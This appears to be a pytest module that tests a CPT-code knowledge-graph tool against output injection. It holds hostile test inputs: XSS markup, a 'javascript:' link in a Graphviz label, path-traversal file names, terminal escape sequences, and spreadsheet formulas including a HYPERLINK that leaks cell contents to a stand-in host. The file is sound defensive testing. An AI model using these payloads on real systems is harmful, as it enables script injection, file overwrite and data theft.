"""Issue 17, output injection: what data says (a code's notation, a label, a gene symbol, a claim id)
reaches file names, HTML, Markdown, SVG, CSV and the terminal. Each output must carry it as text:
slugged inside the output folder, escaped in markup, no ``javascript:`` link, no spreadsheet
formula, no raw control character.

The hostile data is a small Turtle file given with ``--load`` (one more code that covers NRAS exon 2),
or a claim file; the commands run as real processes (tests/hostile.py) or through the public API.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings

import cptkg

from . import strategies as s
from .hostile import RAW_CONTROLS, assert_no_traceback, turtle_code, turtle_string, write
from .hostile import cptkg as run

CASES = Path(__file__).resolve().parent / "cases"
MIXED_CLAIMS = CASES / "claims" / "mixed.csv"

SCRIPT = "<img src=x onerror=alert(1)>"
#: A Graphviz HTML-like label with a link: Graphviz turns HREF into <a xlink:href> in the SVG.
GRAPHVIZ_LINK = '<<TABLE HREF="javascript:alert(1)"><TR><TD>click</TD></TR></TABLE>>'
ESCAPES = "\x1b[31mred\x1b[0m\x07\x9b2J\r"

pytestmark = pytest.mark.filterwarnings("ignore")


# ---------------------------------------------------------------- docs: file names from data


@pytest.mark.parametrize("notation", ["../../escaped", "{absolute}", "..", "index", "images/x", "a\x00b"])
def test_docs_keeps_every_file_inside_the_output_folder(tmp_path, notation):
    """Today: the notation '../../escaped' writes out/../../escaped.html (outside the folder, over
    any file there without --force) and then fails on images/cptkg-../../escaped.svg; 'index'
    replaces the guide's index.html with the code's report."""
    work = tmp_path / "work"
    notation = notation.format(absolute=work / "absolute-escaped")  # an absolute path outside the output folder
    data = write(tmp_path / "data" / "hostile-code.ttl", turtle_code(notation))
    out = work / "deep" / "out"
    out.mkdir(parents=True)
    victim = work / "escaped.html"
    victim.write_text("the user's own file\n")
    before = {p for p in tmp_path.rglob("*") if not p.is_relative_to(out)}
    done = run("--load", data, "docs", "--output", out, "--force", timeout=120)
    assert_no_traceback(done)
    after = {p for p in tmp_path.rglob("*") if not p.is_relative_to(out)}
    assert after == before, f"written outside {out}: {sorted(after - before)}"
    assert victim.read_text() == "the user's own file\n"
    assert done.code == 0, done.err
    index = (out / "index.html").read_text(encoding="utf-8")
    assert "user guide" in index.lower() and "CPT 81311" in index  # the guide, not a code's report


def test_docs_navigation_escapes_notations(tmp_path):
    """Today: the navigation is built with f-strings: a notation's markup is written into every page."""
    data = write(tmp_path / "hostile-code.ttl", turtle_code('9"><script>alert(1)</script>'))
    out = tmp_path / "out"
    done = run("--load", data, "docs", "--output", out, timeout=120)
    assert done.code == 0, done.err
    for page in out.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text, f"{page.name} carries the notation's markup"


# ---------------------------------------------------------------- reports: Markdown, HTML, text


@pytest.fixture(scope="module")
def hostile_code(tmp_path_factory) -> Path:
    """A code 99999 whose label holds markup and terminal escapes and whose gene symbol is a Graphviz link."""
    return write(
        tmp_path_factory.mktemp("hostile") / "hostile-code.ttl",
        turtle_code("99999", label=f"{SCRIPT} {ESCAPES}", gene_symbol=GRAPHVIZ_LINK),
    )


def test_the_markdown_report_carries_no_markup_from_data(hostile_code):
    """Today: '- 99999: <img src=x onerror=alert(1)> ...' as is: any Markdown viewer runs it."""
    done = run("--load", hostile_code, "report", "99999", "--format", "markdown")
    assert done.code == 0, done.err
    assert "<img" not in done.out and "<TABLE" not in done.out
    assert "onerror" in done.out  # the label is still there, as text


def test_the_html_report_escapes_data(hostile_code):
    """Holds today for markup (html.escape); the raw control characters are the new part."""
    done = run("--load", hostile_code, "report", "99999", "--format", "html")
    assert done.code == 0, done.err
    assert "<img" not in done.out and 'HREF="javascript' not in done.out
    assert not RAW_CONTROLS.search(done.out), "raw control characters in the HTML page"


@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_reports_print_no_raw_control_characters(hostile_code, fmt):
    """Today: the label's ESC sequences, BEL and CR reach the terminal as they are."""
    done = run("--load", hostile_code, "report", "99999", "--format", fmt)
    assert done.code == 0, done.err
    assert not RAW_CONTROLS.search(done.out), repr(RAW_CONTROLS.search(done.out))


# ---------------------------------------------------------------- diagrams: SVG links and DOT specials


def javascript_links(svg: str) -> list[str]:
    """The links (``href`` or ``xlink:href`` attributes) of an SVG that run script. The hostile text
    itself may be drawn: as text, ``javascript:`` is harmless."""
    return re.findall(r"""href\s*=\s*["']?\s*javascript:[^"'>]*""", svg, flags=re.IGNORECASE)


def test_the_svg_diagram_has_no_javascript_link(hostile_code):
    """Today: a gene symbol shaped like a Graphviz HTML label goes in unquoted; its HREF becomes
    <a xlink:href="javascript:alert(1)"> in the SVG."""
    done = run("--load", hostile_code, "diagram", "99999", "--format", "svg")
    assert done.code == 0, done.err
    assert not javascript_links(done.out)
    assert "click" in done.out or "TABLE" in done.out  # the symbol is drawn, as text


@pytest.mark.parametrize("text", ["ends with a backslash \\", '"quoted"', "\\N \\G \\L", "{ record | shape }",
                                  "<not html", "line\nbreak", "tab\there", "<<B>bold</B>>"])  # fmt: skip
@pytest.mark.parametrize("fmt", ["svg", "dot"])
def test_dot_special_characters_in_labels_are_drawn_as_text(tmp_path, text, fmt):
    """Today: a trailing backslash escapes the closing quote: dot fails with 'syntax error in line 8'
    (CalledProcessError, a traceback)."""
    data = write(tmp_path / "hostile-code.ttl", turtle_code("99999", gene_symbol=text))
    done = run("--load", data, "diagram", "99999", "--format", fmt)
    assert_no_traceback(done)
    assert done.code == 0, done.err
    if fmt == "dot":  # the source is what dot reads: it must draw
        import graphviz

        svg = graphviz.Source(done.out).pipe(format="svg").decode()
        assert not javascript_links(svg)


def test_the_ontology_diagram_has_no_javascript_link(tmp_path):
    """The ontology picture draws classes and properties; their labels are data too (an OWL file given to --load)."""
    data = write(
        tmp_path / "my-terms.ttl",
        "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        f"<http://example.org/C> a owl:Class ; rdfs:label {turtle_string(GRAPHVIZ_LINK)} .\n"
        f"<http://example.org/p> a owl:ObjectProperty ; rdfs:label {turtle_string(GRAPHVIZ_LINK)} ;\n"
        "  rdfs:domain <https://w3id.org/cptkg/Gene> ; rdfs:range <https://w3id.org/cptkg/Exon> .\n",
    )
    done = run("--load", data, "diagram", "--format", "svg")
    assert_no_traceback(done)
    assert not javascript_links(done.out)


# ---------------------------------------------------------------- CSV: spreadsheet formulas


def assert_no_formula(cells: list[str], originals: set[str]) -> None:
    """No cell starts a formula; a cell that was one is kept, behind a leading apostrophe."""
    for cell in cells:
        if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell):
            continue  # a number is a number
        assert not cell.startswith(s.FORMULA_LEADS), f"a spreadsheet runs {cell!r}"
    for original in originals:
        assert ("'" + original) in cells or any(("'" + original) in cell for cell in cells), (original, cells[:20])


FORMULAS = ['=HYPERLINK("http://example.org/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def formula_claims(tmp_path: Path) -> Path:
    lines = MIXED_CLAIMS.read_text(encoding="utf-8").splitlines()
    rows = [lines[0]]
    for number, formula in enumerate(FORMULAS):
        rows.append('"' + formula.replace('"', '""') + '"' + "," + lines[1 + number % 2].split(",", 1)[1])
    return write(tmp_path / "formulas.csv", "\n".join(rows) + "\n")


def test_claim_findings_csv_neutralises_formulas(tmp_path):
    """Today: the claim id '=HYPERLINK(...)' is written as the first cell of its findings."""
    done = run("claims", formula_claims(tmp_path), "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(done.out)) for cell in row]
    assert_no_formula(cells, set(FORMULAS))


def test_claim_findings_csv_of_the_api_neutralises_formulas(tmp_path):
    findings = cptkg.load().check_claims(formula_claims(tmp_path))
    cells = [cell for row in csv.reader(io.StringIO(findings.to_csv())) for cell in row]
    assert_no_formula(cells, set(FORMULAS))


FORMULA_QUERY = f"SELECT ?x WHERE {{ VALUES ?x {{ {' '.join(turtle_string(f) for f in FORMULAS)} }} }}"


@pytest.mark.parametrize("backend", ["oxigraph", "rdflib"])
def test_query_csv_neutralises_formulas(tmp_path, backend):
    """Today: ``cptkg sparql --format csv`` writes '=HYPERLINK(...)' as a cell (also ``cptkg query``,
    whose values come from data)."""
    done = run("--backend", backend, "sparql", FORMULA_QUERY, "--format", "csv")
    assert done.code == 0, done.err
    cells = [cell for row in csv.reader(io.StringIO(done.out)) for cell in row]
    assert_no_formula(cells, set(FORMULAS))
    data = write(tmp_path / "hostile-code.ttl", turtle_code(FORMULAS[0]))
    done = run("--load", data, "query", "codes", "--format", "csv")
    assert_no_formula([c for row in csv.reader(io.StringIO(done.out)) for c in row], {FORMULAS[0]})


def test_result_to_csv_neutralises_formulas():
    cells = [c for row in csv.reader(io.StringIO(cptkg.load().sparql(FORMULA_QUERY).to_csv())) for c in row]
    assert_no_formula(cells, set(FORMULAS))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cell=s.formula_cells())
@example(cell="=1+1")
def test_any_formula_cell_is_neutralised_in_result_csv(graph, cell):
    answer = graph.sparql("SELECT ?value WHERE { }", value=cell)
    cells = [c for row in csv.reader(io.StringIO(answer.to_csv())) for c in row]
    assert cells[0] == "value"
    assert not cells[1].startswith(s.FORMULA_LEADS) and cells[1].lstrip("'") == cell.lstrip("'")


@pytest.fixture(scope="module")
def graph() -> cptkg.KnowledgeGraph:
    return cptkg.load()


# ---------------------------------------------------------------- the terminal: raw control characters

#: Commands that print data to the terminal, each given the hostile code file (and its argv).
TERMINAL_COMMANDS = {
    "query table": ["query", "codes"],
    "sparql table": ["sparql", "SELECT ?label WHERE { ?c skos:notation '99999' ; skos:prefLabel ?label }"],
    "report text": ["report", "99999"],
    "validate text": ["validate"],
    "check text": ["check"],
    "mappings": ["mappings"],
}


@pytest.mark.parametrize("command", sorted(TERMINAL_COMMANDS))
def test_commands_print_no_raw_control_characters(hostile_code, command):
    """Today: the label's ESC sequences, BEL, CR and C1 CSI reach the terminal raw (they recolour it,
    clear it, or rewrite what was printed before)."""
    done = run("--load", hostile_code, *TERMINAL_COMMANDS[command])
    assert_no_traceback(done)
    found = RAW_CONTROLS.search(done.out) or RAW_CONTROLS.search(done.err)
    assert not found, f"{command} printed {found.group()!r}"


def test_claims_text_prints_no_raw_control_characters(tmp_path):
    lines = MIXED_CLAIMS.read_text(encoding="utf-8").splitlines()
    row = '"C1\x1b[2J\x07"' + "," + lines[1].split(",", 1)[1].replace("C18.7", "C18.7\x1b[31m")
    path = write(tmp_path / "claims.csv", lines[0] + "\n" + row + "\n")
    done = run("claims", path)
    assert_no_traceback(done)
    assert not RAW_CONTROLS.search(done.out) and not RAW_CONTROLS.search(done.err), repr(done.out)


def test_variant_text_prints_no_raw_control_characters(tmp_path):
    done = run("variant", "NRAS G12D\x1b[2J", "1-1-A-\x1b[31mT")
    assert not RAW_CONTROLS.search(done.out.replace("\t", "")) and not RAW_CONTROLS.search(done.err)


def test_error_messages_print_no_raw_control_characters():
    """Holds today (messages quote values with repr or escape them); kept as the sibling."""
    for argv in (["report", "\x1b[2J"], ["query", "codes\x1b[31m"], ["map", "HGNC:\x1b[2J"]):
        done = run(*argv)
        assert done.code == 2 and not RAW_CONTROLS.search(done.err), (argv, done.err)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=s.control_text())
@example(text="\x1b[2J")
@example(text="\x9b31m")
def test_any_control_text_in_a_result_table_is_escaped(graph, text):
    table = graph.sparql("SELECT ?value WHERE { }", value=text).to_table()
    assert not RAW_CONTROLS.search(table), repr(table)


def test_json_output_escapes_control_characters(hostile_code):
    """Holds today: JSON escapes C0 controls; C1 and DEL are valid JSON but still reach a terminal raw."""
    done = run("--load", hostile_code, "query", "codes", "--format", "json")
    assert done.code == 0
    assert not RAW_CONTROLS.search(done.out), repr(RAW_CONTROLS.search(done.out))
    labels = [row["label"] for row in json.loads(done.out) if row["code"] == "99999"]
    assert labels and "\x1b" in labels[0]  # the value is intact once parsed
